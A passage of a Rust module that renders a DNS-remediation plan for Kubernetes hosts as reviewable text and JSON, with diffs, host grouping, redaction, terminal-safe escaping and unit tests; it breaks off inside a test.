//! Rendering a [`Plan`] for review: per-host findings, changes with unified diffs, handlers,
//! blocked playbooks and notes, hosts with identical plans shown once, then the inventory
//! edits and a one-line summary; JSON is the saved plan itself.
//!
//! A pure function of the plan: it never reads the clock (the plan's `created` is not
//! shown), the environment or the terminal, so the same plan renders byte-identically and
//! two plans can be compared with `diff`. Whether to colour is the caller's decision.

use std::collections::HashMap;
use std::fmt::Write as _;

use similar::{ChangeTag, TextDiff};

use super::model::{
    Blocked, Change, ClusterAction, ConfigMapChange, FindingRecord, HandlerRun, HostPlan,
    HostStatus, InventoryChange, Note, Plan, Summary,
};
use crate::diagnose::{FindingStatus, Severity};
use crate::text::count;

/// Indent of a section header (`findings:`) inside a host block.
const SECTION: &str = "  ";
/// Indent of one entry of a section (a finding, a change).
const ENTRY: &str = "    ";
/// Indent of what belongs to an entry (evidence, diff lines, reasons).
const DETAIL: &str = "        ";
/// Indent of what belongs to an inventory edit, which is itself an entry at [`SECTION`].
const INVENTORY_DETAIL: &str = "      ";

/// Lines of context around each diff hunk.
const DIFF_CONTEXT: usize = 3;

/// The plan as a reviewer reads it. `colour` adds ANSI escapes; it never changes which
/// hosts are grouped or what the text says.
pub fn text(plan: &Plan, colour: bool) -> String {
    // Secrets are redacted first, on the text as it is (a `\r` still a line's end), as
    // the saved plan and the Markdown do; then node text (file contents, evidence,
    // messages) is made terminal-safe before any colour is added, so only dnsfix's own
    // escapes reach the terminal.
    let plan = &super::redact::redact_plan(&without_facts(plan));
    let plan = &terminal_safe(plan);
    let paint = Paint(colour);
    let mut out = String::new();

    let (groups, clean) = groups(plan);

    for (first, hosts) in &groups {
        let header = match hosts.as_slice() {
            [one] => format!("== {one}"),
            many => format!("== {}: same change", host_list(many)),
        };
        let _ = writeln!(out, "{}", paint.bold(&header));
        out.push_str(&block(first, paint));
        out.push('\n');
    }
    if !clean.is_empty() {
        let _ = writeln!(out, "nothing to change: {}\n", host_list(&clean));
    }
    if !plan.cluster_changes.is_empty() {
        cluster_changes(&mut out, &plan.cluster_changes, paint);
        out.push('\n');
    }
    if !plan.inventory_changes.is_empty() {
        inventory(&mut out, &plan.inventory_changes, paint);
        out.push('\n');
    }
    let _ = writeln!(out, "{}", summary(&plan.summary));
    out
}

/// Hosts with the same plan, each group with its first host's plan, in inventory order;
/// then the hosts with nothing to say. Grouped on the uncoloured text block, so colour
/// cannot split or merge groups, and every renderer groups alike.
pub(super) type Groups<'a> = (Vec<(&'a HostPlan, Vec<&'a str>)>, Vec<&'a str>);

pub(super) fn groups(plan: &Plan) -> Groups<'_> {
    let mut groups: Vec<(&HostPlan, Vec<&str>)> = Vec::new();
    let mut group_of: HashMap<String, usize> = HashMap::new();
    let mut clean = Vec::new();
    for host in &plan.hosts {
        if !has_something_to_say(host) {
            clean.push(host.host.as_str());
            continue;
        }
        let key = block(host, Paint(false));
        match group_of.get(&key) {
            Some(&i) => groups[i].1.push(&host.host),
            None => {
                group_of.insert(key, groups.len());
                groups.push((host, vec![&host.host]));
            }
        }
    }
    (groups, clean)
}

/// A unified diff of `before` → `after`, uncoloured and unindented, with a final newline;
/// empty when they are equal.
pub(super) fn unified(before: &str, after: &str, old_name: &str, new_name: &str) -> String {
    let mut out = String::new();
    diff(
        &mut out,
        "",
        before,
        after,
        old_name,
        new_name,
        Paint(false),
    );
    out
}

/// The one-line summary `plan` ends with.
pub(super) fn summary_line(s: &Summary) -> String {
    summary(s)
}

/// A header's list of hosts, short at fleet scale: runs of three or more numbered names in
/// a row as Ansible ranges (`node[003:120]`, `web[1:9].example.com`), and past
/// [`HOST_LIST_WIDTH`] characters a count with the first and last (the saved plan lists
/// every host).
pub(super) fn host_list(hosts: &[&str]) -> String {
    let ranges = host_ranges(hosts);
    if ranges.len() <= HOST_LIST_WIDTH || hosts.len() < 3 {
        return ranges;
    }
    format!(
        "{} hosts, {} … {}",
        hosts.len(),
        hosts[0],
        hosts[hosts.len() - 1]
    )
}

/// Characters of a host list before it is shortened to a count.
const HOST_LIST_WIDTH: usize = 160;

/// `hosts` joined with `, `, consecutive numbered names folded into `prefix[a:b]suffix`.
fn host_ranges(hosts: &[&str]) -> String {
    // A name's last run of digits: (prefix, digits, suffix).
    fn split(name: &str) -> Option<(&str, &str, &str)> {
        let end = name.rfind(|c: char| c.is_ascii_digit())? + 1;
        let start = name[..end]
            .rfind(|c: char| !c.is_ascii_digit())
            .map_or(0, |i| i + 1);
        Some((&name[..start], &name[start..end], &name[end..]))
    }
    // `next` is the name right after `prev` in a range: same prefix, suffix and width
    // (zero-padded) or unpadded, number one more.
    fn follows(prev: &str, next: &str) -> bool {
        let (Some((p1, d1, s1)), Some((p2, d2, s2))) = (split(prev), split(next)) else {
            return false;
        };
        let (Ok(a), Ok(b)) = (d1.parse::<u64>(), d2.parse::<u64>()) else {
            return false;
        };
        let padded = |d: &str| d.len() > 1 && d.starts_with('0');
        p1 == p2
            && s1 == s2
            && b == a + 1
            && if padded(d1) {
                d2.len() == d1.len()
            } else {
                !padded(d2)
            }
    }
    let mut parts = Vec::new();
    let mut i = 0;
    while i < hosts.len() {
        let mut j = i;
        while j + 1 < hosts.len() && follows(hosts[j], hosts[j + 1]) {
            j += 1;
        }
        match (split(hosts[i]), split(hosts[j])) {
            (Some((prefix, first, suffix)), Some((_, last, _))) if j - i >= 2 => {
                parts.push(format!("{prefix}[{first}:{last}]{suffix}"));
            }
            _ => parts.extend(hosts[i..=j].iter().map(|h| (*h).to_owned())),
        }
        i = j + 1;
    }
    parts.join(", ")
}

/// The plan as saved with `-o plan.json` and read back by `apply`.
pub fn json(plan: &Plan) -> String {
    crate::text::pretty_json(&super::redact::redact_plan(plan))
}

/// Whether a host gets a block of its own rather than a place in "nothing to change".
fn has_something_to_say(host: &HostPlan) -> bool {
    host.status != HostStatus::Clean
        || !host.findings.is_empty()
        || !host.changes.is_empty()
        || !host.handlers.is_empty()
        || !host.cluster.is_empty()
        || !host.blocked.is_empty()
        || !host.notes.is_empty()
}

/// Everything about one host except its name, so identical hosts render identically.
fn block(host: &HostPlan, paint: Paint) -> String {
    let mut out = String::new();
    if host.status == HostStatus::Error {
        match &host.error {
            Some(e) => {
                let _ = writeln!(out, "{SECTION}could not plan: {}: {}", e.kind, e.message);
            }
            None => {
                let _ = writeln!(out, "{SECTION}could not plan: no reason recorded");
            }
        }
    }
    if !host.findings.is_empty() {
        let _ = writeln!(out, "{SECTION}findings:");
        for f in &host.findings {
            finding(&mut out, f, paint);
        }
    }
    if !host.changes.is_empty() {
        let _ = writeln!(out, "{SECTION}changes:");
        for c in &host.changes {
            change(&mut out, c, paint);
        }
    }
    if !host.handlers.is_empty() {
        let _ = writeln!(out, "{SECTION}handlers:");
        for h in &host.handlers {
            handler(&mut out, h);
        }
    }
    if !host.cluster.is_empty() {
        let _ = writeln!(
            out,
            "{SECTION}cluster (kubectl on {}):",
            cluster_via(&host.cluster)
        );
        for a in &host.cluster {
            let _ = writeln!(out, "{ENTRY}{}", cluster_action(a));
            for r in a.reasons() {
                let _ = writeln!(out, "{DETAIL}← {}: {}", r.playbook, r.task);
            }
        }
    }
    if !host.blocked.is_empty() {
        let _ = writeln!(out, "{SECTION}blocked:");
        for b in &host.blocked {
            blocked(&mut out, b);
        }
    }
    if !host.notes.is_empty() {
        let _ = writeln!(out, "{SECTION}notes:");
        for n in &host.notes {
            note(&mut out, n);
        }
    }
    // Why a host with findings changes nothing: the stated no-op reasons.
    let failing = host.findings.iter().any(|f| {
        f.status == crate::diagnose::FindingStatus::Failed
            && f.id != crate::diagnose::drift::DRIFT_ID
    });
    if host.changes.is_empty() && host.status != HostStatus::Error && failing {
        let reasons: Vec<&Note> = host.unchanged.iter().collect();
        if !reasons.is_empty() {
            let _ = writeln!(out, "{SECTION}no change:");
            for n in reasons {
                note(&mut out, n);
            }
        }
    }
    let mut after = Vec::new();
    if !host.fixes.is_empty() {
        after.push(format!("fixes {}", host.fixes.join(", ")));
    }
    if !host.remaining.is_empty() {
        after.push(format!("still failing: {}", host.remaining.join(", ")));
    }
    if !after.is_empty() {
        let _ = writeln!(out, "{SECTION}after apply: {}", after.join("; "));
    }
    out
}

fn finding(out: &mut String, f: &FindingRecord, paint: Paint) {
    // Pad before painting: escapes would count towards the width.
    let label = match f.status {
        FindingStatus::Failed => paint.severity(f.severity, &format!("{:<8}", f.severity)),
        FindingStatus::Unknown => format!("{:<8}", "unknown"),
    };
    let _ = writeln!(out, "{ENTRY}{label} {}  {}", f.id, f.summary);
    for e in &f.evidence {
        let _ = writeln!(out, "{DETAIL}{e}");
    }
}

fn change(out: &mut String, c: &Change, paint: Paint) {
    match c {
        Change::WriteFile {
            path,
            description,
            before_sha256: None,
            content,
            mode,
            ..
        } => {
            let mode = mode.as_deref().unwrap_or("0644");
            let _ = writeln!(
                out,
                "{ENTRY}+ {path}  (new file, mode {mode}): {description}"
            );
            diff(
                out,
                DETAIL,
                "",
                content,
                "/dev/null",
                &format!("b{path}"),
                paint,
            );
        }
        Change::WriteFile {
            path,
            description,
            before_sha256: Some(_),
            before,
            content,
            ..
        } => {
            // The digests are in the saved plan; here they would only keep hosts whose
            // files differ elsewhere (a node's own address) from sharing one block.
            let _ = writeln!(out, "{ENTRY}~ {path}: {description}");
            let before = before.as_deref().unwrap_or("");
            let (a, b) = (format!("a{path}"), format!("b{path}"));
            diff(out, DETAIL, before, content, &a, &b, paint);
        }
        Change::Sysctl {
            name,
            before,
            after,
            ..
        } => {
            let before = before.as_deref().unwrap_or("unset");
            let _ = writeln!(out, "{ENTRY}sysctl {name}: {before} → {after}");
        }
        Change::LoadModule { name, .. } => {
            let _ = writeln!(out, "{ENTRY}modprobe {name}");
        }
    }
    // Two tasks of one playbook fixing the same findings are one reason to a reviewer.
    let mut seen = Vec::new();
    for r in c.reasons() {
        let line = if r.fixes.is_empty() {
            format!("{DETAIL}because: {}", r.playbook)
        } else {
            format!("{DETAIL}because: {} ← {}", r.playbook, r.fixes.join(", "))
        };
        if !seen.contains(&line) {
            let _ = writeln!(out, "{line}");
            seen.push(line);
        }
    }
}

fn handler(out: &mut String, h: &HandlerRun) {
    let verb = h.action.verb();
    let _ = writeln!(out, "{ENTRY}{verb} {} (batches of {})", h.unit, h.serial);
    for r in &h.reasons {
        let _ = writeln!(out, "{DETAIL}← {r}");
    }
}

/// The control-plane host(s) the cluster actions go through.
pub(super) fn cluster_via(actions: &[ClusterAction]) -> String {
    let mut via: Vec<&str> = actions
        .iter()
        .map(|a| match a {
            ClusterAction::RecreateDnsPods { via, .. } => via.as_str(),
        })
        .collect();
    via.dedup();
    via.join(", ")
}

/// One cluster action for humans, without pod names (they differ on every node, and
/// identical hosts must still share a block; the JSON names them).
pub(super) fn cluster_action(action: &ClusterAction) -> String {
    match action {
        ClusterAction::RecreateDnsPods { pods, .. } => {
            // The namespace where it is not kube-system (CoreDNS found through the cluster
            // DNS Service elsewhere), and the selector apply lists the pods by there: apply
            // deletes and replaces what they select, so a reviewer sees both.
            let now: Vec<String> = pods
                .iter()
                .map(|p| match p.namespace() {
                    "kube-system" => format!("{} {}", p.app, p.state),
                    ns => format!(
                        "{} (namespace {}, selector {}) {}",
                        p.app,
                        crate::text::escape(ns),
                        crate::text::escape(p.selector.as_deref().unwrap_or("none")),
                        p.state
                    ),
                })
                .collect();
            // None now: apply still lists the node's pods, for one put there since.
            if now.is_empty() {
                return "recreate this node's DNS pods after the restart, one at a time, each \
                        waiting for a Ready replacement (now: none; apply lists the node's pods \
                        again then, for one put there since)"
                    .to_owned();
            }
            format!(
                "recreate this node's DNS pods after the restart, one at a time, each waiting \
                 for a Ready replacement (now: {})",
                now.join("; ")
            )
        }
    }
}

fn blocked(out: &mut String, b: &Blocked) {
    let _ = writeln!(out, "{ENTRY}{b}");
}

fn note(out: &mut String, n: &Note) {
    let mut lines = n.message.lines();
    let first = lines.next().unwrap_or_default();
    // A note of no playbook (e.g. "no playbook fixes …") stands alone.
    let _ = if n.playbook.is_empty() {
        writeln!(out, "{ENTRY}{first}")
    } else {
        writeln!(out, "{ENTRY}{}: {first}", n.playbook)
    };
    for line in lines {
        let _ = writeln!(out, "{DETAIL}{line}");
    }
}

/// The inventory edits; they sit outside the host blocks because `apply` makes them only
/// when asked to.
fn inventory(out: &mut String, changes: &[InventoryChange], paint: Paint) {
    let header = "== inventory (changed only by `dnsfix apply --update-inventory`)";
    let _ = writeln!(out, "{}", paint.bold(header));
    for c in changes {
        let path = &c.path;
        let old_name = match c.before_sha256 {
            None => {
                let _ = writeln!(out, "{SECTION}+ {path}  (new file)");
                "/dev/null".to_owned()
            }
            Some(_) => {
                let _ = writeln!(out, "{SECTION}~ {path}");
                format!("a/{}", path.trim_start_matches('/'))
            }
        };
        let _ = writeln!(out, "{INVENTORY_DETAIL}sets: {}", c.settings.join("; "));
        let _ = writeln!(out, "{INVENTORY_DETAIL}for: {}", c.hosts.join(", "));
        let before = c.before.as_deref().unwrap_or("");
        let new_name = format!("b/{}", path.trim_start_matches('/'));
        diff(
            out,
            INVENTORY_DETAIL,
            before,
            &c.content,
            &old_name,
            &new_name,
            paint,
        );
    }
    let _ = writeln!(
        out,
        "{SECTION}Without it, the next Kubespray run undoes these fixes."
    );
}

/// The kube-system ConfigMap edits; they sit outside the host blocks because `apply`
/// makes them once for the cluster, before any host.
fn cluster_changes(out: &mut String, changes: &[ConfigMapChange], paint: Paint) {
    let via = changes.first().map_or("", |c| c.via.as_str());
    let header = format!("== cluster (kubectl on {via}, before any host)");
    let _ = writeln!(out, "{}", paint.bold(&header));
    for c in changes {
        let name = format!("kube-system/configmap/{}/{}", c.configmap, c.key);
        let _ = writeln!(out, "{SECTION}~ {name}: {}", c.description);
        let mut seen = Vec::new();
        for r in &c.reasons {
            let line = if r.fixes.is_empty() {
                format!("{INVENTORY_DETAIL}because: {}", r.playbook)
            } else {
                format!(
                    "{INVENTORY_DETAIL}because: {} ← {}",
                    r.playbook,
                    r.fixes.join(", ")
                )
            };
            if !seen.contains(&line) {
                let _ = writeln!(out, "{line}");
                seen.push(line);
            }
        }
        let hosts: Vec<&str> = c.hosts.iter().map(String::as_str).collect();
        let _ = writeln!(out, "{INVENTORY_DETAIL}for: {}", host_list(&hosts));
        let (a, b) = (format!("a/{name}"), format!("b/{name}"));
        diff(out, INVENTORY_DETAIL, &c.before, &c.after, &a, &b, paint);
    }
}

/// A unified diff, one indented line per diff line. Written from the hunks rather than
/// from similar's `Display` so each line can be coloured by its tag, not by guessing from
/// its first character (a `---` header is not a removed line).
fn diff(
    out: &mut String,
    indent: &str,
    before: &str,
    after: &str,
    old_name: &str,
    new_name: &str,
    paint: Paint,
) {
    let diff = TextDiff::from_lines(before, after);
    let mut unified = diff.unified_diff();
    unified.context_radius(DIFF_CONTEXT);
    for (i, hunk) in unified.iter_hunks().enumerate() {
        if i == 0 {
            let _ = writeln!(out, "{indent}--- {old_name}");
            let _ = writeln!(out, "{indent}+++ {new_name}");
        }
        let _ = writeln!(out, "{indent}{}", paint.cyan(&hunk.header().to_string()));
        for change in hunk.iter_changes() {
            let value = change.value();
            let line = value.strip_suffix('\n').unwrap_or(value);
            let painted = match change.tag() {
                ChangeTag::Delete => paint.red(&format!("-{line}")),
                ChangeTag::Insert => paint.green(&format!("+{line}")),
                ChangeTag::Equal => format!(" {line}"),
            };
            let _ = writeln!(out, "{indent}{painted}");
            if change.missing_newline() {
                let _ = writeln!(out, "{indent}\\ No newline at end of file");
            }
        }
    }
}

/// One line for the whole plan, e.g. "3 of 20 hosts change: 4 files, 2 sysctls, 3 kubelet
/// restarts in batches of 1; 1 host blocked".
fn summary(s: &Summary) -> String {
    // Hosts that could not be planned are not hosts without changes.
    let planned = s.hosts.saturating_sub(s.hosts_failed);
    let mut line = if s.hosts_changing == 0 && planned == 0 {
        "nothing planned".to_owned()
    } else if s.hosts_changing == 0 && s.hosts_failed > 0 {
        format!("no changes on {planned} of {}", count(s.hosts, "host"))
    } else if s.hosts_changing == 0 {
        format!("no changes on {}", count(s.hosts, "host"))
    } else {
        // The noun agrees with the fleet, the verb with the hosts changing.
        let verb = if s.hosts_changing == 1 {
            "changes"
        } else {
            "change"
        };
        format!("{} of {} {verb}", s.hosts_changing, count(s.hosts, "host"))
    };

    let mut parts = Vec::new();
    for (n, what) in [
        (s.files, "file"),
        (s.sysctls, "sysctl"),
        (s.modules, "module"),
    ] {
        if n > 0 {
            parts.push(count(n, what));
        }
    }
    let restarts: Vec<String> = s
        .restarts
        .iter()
        .filter(|(_, n)| **n > 0)
        .map(|(what, n)| count(*n, what))
        .collect();
    if !restarts.is_empty() {
        let mut part = restarts.join(", ");
        if let Some(serial) = s.serial {
            let _ = write!(part, " in batches of {serial}");
        }
        parts.push(part);
    }
    if s.pods > 0 {
        parts.push(format!("{} recreated", count(s.pods, "DNS pod")));
    }
    if !parts.is_empty() {
        let _ = write!(line, ": {}", parts.join(", "));
    }

    if s.hosts_blocked > 0 {
        let _ = write!(line, "; {} blocked", count(s.hosts_blocked, "host"));
    }
    if s.hosts_failed > 0 {
        let _ = write!(
            line,
            "; {} could not be planned",
            count(s.hosts_failed, "host")
        );
    }
    if s.configmaps > 0 {
        let _ = write!(
            line,
            "; {} in the cluster",
            count(s.configmaps, "ConfigMap key")
        );
    }
    if s.inventory_files > 0 {
        let _ = write!(line, "; {}", count(s.inventory_files, "inventory file"));
    }
    line
}

/// "1 host", "2 hosts".
/// `plan` without the hosts' fact digests, which only the JSON shows: the copies the text
/// and Markdown make (redacted, then terminal-safe through a JSON value) stay small. At
/// 1000 hosts the digests in those copies were most of the memory a plan used.
pub(super) fn without_facts(plan: &Plan) -> Plan {
    Plan {
        kind: plan.kind.clone(),
        format_version: plan.format_version,
        dnsfix_version: plan.dnsfix_version.clone(),
        created: plan.created.clone(),
        inventory: plan.inventory.clone(),
        limit: plan.limit.clone(),
        playbooks: plan.playbooks.clone(),
        hosts: plan
            .hosts
            .iter()
            .map(|h| HostPlan {
                host: h.host.clone(),
                status: h.status,
                error: h.error.clone(),
                findings: h.findings.clone(),
                facts: None,
                changes: h.changes.clone(),
                handlers: h.handlers.clone(),
                cluster: h.cluster.clone(),
                blocked: h.blocked.clone(),
                notes: h.notes.clone(),
                unchanged: h.unchanged.clone(),
                fixes: h.fixes.clone(),
                remaining: h.remaining.clone(),
            })
            .collect(),
        groups: plan.groups.clone(),
        inventory_changes: plan.inventory_changes.clone(),
        cluster_changes: plan.cluster_changes.clone(),
        summary: plan.summary.clone(),
    }
}

/// `plan` with every string made safe for a terminal, and on one line: shown
/// [`crate::text::escape`]d, so a newline in a node's symlink target, in evidence or in a
/// host name cannot start a line that reads as the plan's own (a forged `fix:` or finding).
/// Only what is shown over several lines by design keeps its newlines: file contents,
/// which the diff frames line by line ([`crate::text::terminal_text`]), and notes, each of
/// their lines escaped.
pub(super) fn terminal_safe(plan: &Plan) -> Plan {
    fn walk(value: &mut serde_json::Value) {
        match value {
            serde_json::Value::String(s) => {
                if let std::borrow::Cow::Owned(safe) = crate::text::escape(s) {
                    *s = safe;
                }
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(walk),
            serde_json::Value::Object(map) => map.values_mut().for_each(walk),
            _ => {}
        }
    }
    let Ok(mut value) = serde_json::to_value(plan) else {
        return plan.clone();
    };
    walk(&mut value);
    let Ok(mut safe) = serde_json::from_value::<Plan>(value) else {
        return plan.clone();
    };
    multi_line(&mut safe, plan);
    safe
}

/// The texts of `plan` shown over several lines, made safe in `safe` (the same plan, every
/// string escaped onto one line) as such.
fn multi_line(safe: &mut Plan, plan: &Plan) {
    let body = |s: &str| crate::text::terminal_text(s).into_owned();
    for (safe, host) in safe.hosts.iter_mut().zip(&plan.hosts) {
        for (safe, change) in safe.changes.iter_mut().zip(&host.changes) {
            if let (
                Change::WriteFile {
                    before: safe_before,
                    content: safe_content,
                    ..
                },
                Change::WriteFile {
                    before, content, ..
                },
            ) = (safe, change)
            {
                *safe_before = before.as_deref().map(body);
                *safe_content = body(content);
            }
        }
        let safe_notes = safe.notes.iter_mut().chain(safe.unchanged.iter_mut());
        for (safe, note) in safe_notes.zip(host.notes.iter().chain(&host.unchanged)) {
            safe.message = crate::text::escape_lines(&note.message);
        }
    }
    for (safe, c) in safe
        .inventory_changes
        .iter_mut()
        .zip(&plan.inventory_changes)
    {
        safe.before = c.before.as_deref().map(body);
        safe.content = body(&c.content);
    }
    for (safe, c) in safe.cluster_changes.iter_mut().zip(&plan.cluster_changes) {
        safe.before = body(&c.before);
        safe.after = body(&c.after);
    }
}

/// ANSI colour, or none: every styled string goes through here so `text(plan, false)`
/// cannot contain an escape.
#[derive(Debug, Clone, Copy)]
struct Paint(bool);

impl Paint {
    fn style(self, code: &str, text: &str) -> String {
        if self.0 {
            format!("\x1b[{code}m{text}\x1b[0m")
        } else {
            text.to_owned()
        }
    }

    fn bold(self, text: &str) -> String {
        self.style("1", text)
    }

    fn red(self, text: &str) -> String {
        self.style("31", text)
    }

    fn green(self, text: &str) -> String {
        self.style("32", text)
    }

    fn cyan(self, text: &str) -> String {
        self.style("36", text)
    }

    fn severity(self, severity: Severity, text: &str) -> String {
        match severity {
            Severity::Critical | Severity::High => self.style("31", text),
            Severity::Warning => self.style("33", text),
            Severity::Info => text.to_owned(),
        }
    }
}

#[cfg(test)]
pub(in crate::plan) mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::plan::model::{HandlerAction, HostPlanError, PLAN_FORMAT_VERSION, Reason};
    use crate::playbook::Batch;

    const KUBELET_CONFIG: &str = "/etc/kubernetes/kubelet-config.yaml";
    const KUBELET_BEFORE: &str = "\
apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
clusterDNS:
- 169.254.25.10
clusterDomain: cluster.local
resolvConf: \"/etc/resolv.conf\"
rotateCertificates: true
";
    const KUBELET_AFTER: &str = "\
apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
clusterDNS:
- 169.254.25.10
clusterDomain: cluster.local
resolvConf: \"/run/systemd/resolve/resolv.conf\"
rotateCertificates: true
";

    fn plan(hosts: Vec<HostPlan>, summary: Summary) -> Plan {
        Plan {
            kind: "dnsfix-plan".to_owned(),
            format_version: PLAN_FORMAT_VERSION,
            dnsfix_version: "0.1.0".to_owned(),
            created: "2025-01-01T00:00:00Z".to_owned(),
            inventory: None,
            limit: None,
            groups: Default::default(),
            playbooks: Vec::new(),
            hosts,
            inventory_changes: Vec::new(),
            cluster_changes: Vec::new(),
            summary,
        }
    }

    fn host(name: &str, status: HostStatus) -> HostPlan {
        HostPlan::empty(name, status)
    }

    fn reason(playbook: &str, task: &str, fixes: &[&str]) -> Reason {
        Reason {
            playbook: playbook.to_owned(),
            task: task.to_owned(),
            fixes: fixes.iter().map(|f| f.to_string()).collect(),
        }
    }

    fn loopback_finding() -> FindingRecord {
        FindingRecord {
            id: "DNS-KUBELET-LOOPBACK".to_owned(),
            severity: Severity::Critical,
            status: FindingStatus::Failed,
            summary: "kubelet gives pods a loopback resolver".to_owned(),
            evidence: vec![format!(
                "{KUBELET_CONFIG}:6 resolvConf: /etc/resolv.conf → nameserver 127.0.0.53"
            )],
            playbook: Some("20-kubelet-resolvconf".to_owned()),
        }
    }

    fn write_file(path: &str, before: Option<&str>, after: &str) -> Change {
        Change::WriteFile {
            path: path.to_owned(),
            description: format!("rewrite {path}"),
            before_sha256: before.map(|_| "1f2e3d4c5b6a79880123456789abcdef".to_owned()),
            before: before.map(str::to_owned),
            after_sha256: "a1b2c3d4e5f60718293a4b5c6d7e8f90".to_owned(),
            content: after.to_owned(),
            mode: None,
            reasons: vec![reason("p", "t", &["DNS-X"])],
        }
    }

    fn kubelet_change() -> Change {
        Change::WriteFile {
            path: KUBELET_CONFIG.to_owned(),
            description: "resolvConf: /etc/resolv.conf → /run/systemd/resolve/resolv.conf"
                .to_owned(),
            before_sha256: Some(
                "3b9d0c6a2f41e8d7c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e".to_owned(),
            ),
            before: Some(KUBELET_BEFORE.to_owned()),
            after_sha256: "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d"
                .to_owned(),
            content: KUBELET_AFTER.to_owned(),
            mode: None,
            reasons: vec![
                reason(
                    "20-kubelet-resolvconf",
                    "point kubelet at the upstream resolv.conf",
                    &["DNS-KUBELET-LOOPBACK"],
                ),
                // A second task of the same playbook for the same finding: shown once.
                reason(
                    "20-kubelet-resolvconf",
                    "keep the file readable",
                    &["DNS-KUBELET-LOOPBACK"],
                ),
            ],
        }
    }

    fn kubelet_restart() -> HandlerRun {
        HandlerRun {
            name: "restart kubelet".to_owned(),
            unit: "kubelet".to_owned(),
            action: HandlerAction::Restarted,
            serial: Batch::Count(1),
            reasons: vec![format!(
                "{KUBELET_CONFIG} resolvConf changed ← DNS-KUBELET-LOOPBACK"
            )],
        }
    }

    /// A worker with the Kubespray #9948 loopback: one file edit and a kubelet restart.
    fn loopback_host(name: &str) -> HostPlan {
        HostPlan {
            findings: vec![loopback_finding()],
            changes: vec![kubelet_change()],
            handlers: vec![kubelet_restart()],
            fixes: vec!["DNS-KUBELET-LOOPBACK".to_owned()],
            ..host(name, HostStatus::Changes)
        }
    }

    fn one_host_with(change: Change) -> Plan {
        let h = HostPlan {
            changes: vec![change],
            ..host("node1", HostStatus::Changes)
        };
        plan(vec![h], Summary::default())
    }

    /// Each node's DNS pods have their own names; hosts alike otherwise still share a
    /// block, which says what is recreated and through which host.
    #[test]
    fn cluster_actions_show_pod_states_not_names() {
        let with_pods = |name: &str, pod: &str| HostPlan {
            cluster: vec![ClusterAction::RecreateDnsPods {
                node: vec![name.to_owned()],
                pods: vec![super::super::model::PodState {
                    name: pod.to_owned(),
                    app: "coredns".to_owned(),
                    state: "CrashLoopBackOff, 5 restarts, loop detected".to_owned(),
                    namespace: None,
                    selector: None,
                }],
                via: "cp1".to_owned(),
                reasons: vec![reason(
                    "kubelet-resolvconf",
                    "recreate the cluster DNS pods on this node",
                    &[],
                )],
            }],
            ..loopback_host(name)
        };
        let p = plan(
            vec![
                with_pods("node1", "coredns-a-1"),
                with_pods("node2", "coredns-b-7"),
            ],
            Summary {
                hosts: 2,
                hosts_changing: 2,
                pods: 2,
                ..Summary::default()
            },
        );
        let out = text(&p, false);
        assert!(out.contains("== node1, node2: same change\n"), "{out}");
        assert!(
            out.contains(
                "  cluster (kubectl on cp1):\n    recreate this node's DNS pods after the \
                 restart, one at a time, each waiting for a Ready replacement (now: coredns \
                 CrashLoopBackOff, 5 restarts, loop detected)\n        ← kubelet-resolvconf: \
                 recreate the cluster DNS pods on this node\n"
            ),
            "{out}"
        );
        assert!(!out.contains("coredns-a-1"), "{out}");
        assert!(out.contains("2 DNS pods recreated"), "{out}");
        assert!(json(&p).contains("\"name\": \"coredns-b-7\""));
    }

    /// CoreDNS found through the cluster DNS Service outside kube-system (the CoreDNS Helm
    /// chart installed with `-n coredns`) is recreated in its namespace: the text and the
    /// Markdown name it, the saved plan carries it with the selector apply lists the pods
    /// by there, both drawn for the reviewer. A plan saved before pods carried a namespace still loads, its pods
    /// kube-system's. Before, such a pod was left out of the action (a note named the
    /// manual step).
    #[test]
    fn a_pod_outside_kube_system_is_shown_with_its_namespace() {
        let state =
            |name: &str, app: &str, namespace: Option<&str>| super::super::model::PodState {
                name: name.to_owned(),
                app: app.to_owned(),
                state: "ready".to_owned(),
                namespace: namespace.map(str::to_owned),
                selector: namespace.map(|_| {
                    "app.kubernetes.io/instance=dns,app.kubernetes.io/name=coredns,\
                     k8s-app=coredns"
                        .to_owned()
                }),
            };
        let h = HostPlan {
            cluster: vec![ClusterAction::RecreateDnsPods {
                node: vec!["node1".to_owned()],
                pods: vec![
                    state("nodelocaldns-9wqzb", "nodelocaldns", None),
                    state("dns-coredns-6d4f8b7c9b-2xkqp", "coredns", Some("coredns")),
                ],
                via: "cp1".to_owned(),
                reasons: vec![reason(
                    "kubelet-resolvconf",
                    "recreate the cluster DNS pods on this node",
                    &[],
                )],
            }],
            ..loopback_host("node1")
        };
        let p = plan(
            vec![h],
            Summary {
                hosts: 1,
                hosts_changing: 1,
                pods: 2,
                ..Summary::default()
            },
        );
        let now = "(now: nodelocaldns ready; coredns (namespace coredns, selector \
                   app.kubernetes.io/instance=dns,app.kubernetes.io/name=coredns,\
                   k8s-app=coredns) ready)";
        let out = text(&p, false);
        assert!(out.contains(now), "{out}");
        let md = super::super::markdown::markdown(&p, "0");
        assert!(md.contains(now), "{md}");
        let saved = json(&p);
        assert!(saved.contains("\"namespace\": \"coredns\""), "{saved}");
        assert_eq!(saved.matches("\"namespace\"").count(), 1, "{saved}");
        let back: Plan = serde_json::from_str(&saved).expect("loads");
        assert_eq!(back, p);

        // Saved before: no namespace, no selector. It loads, and means kube-system.
        let mut old: serde_json::Value = serde_json::from_str(&saved).expect("json");
        let pods = &mut old["hosts"][0]["cluster"][0]["pods"];
        for pod in pods.as_array_mut().expect("pods") {
            let pod = pod.as_object_mut().expect("pod");
            pod.remove("namespace");
            pod.remove("selector");
        }
        let old: Plan = serde_json::from_value(old).expect("a plan saved before loads");
        let ClusterAction::RecreateDnsPods { pods, .. } = &old.hosts[0].cluster[0];
        assert!(
            pods.iter().all(|p| p.namespace() == "kube-system"),
            "{pods:?}"
        );
        assert!(text(&old, false).contains("(now: nodelocaldns ready; coredns ready)"));
    }

    #[test]
    fn identical_hosts_share_one_block() {
        let odd = HostPlan {
            changes: vec![Change::LoadModule {
                name: "br_netfilter".to_owned(),
                reasons: vec![reason(
                    "40-bridge-netfilter",
                    "load",
                    &["DNS-BRIDGE-NF-OFF"],
                )],
            }],
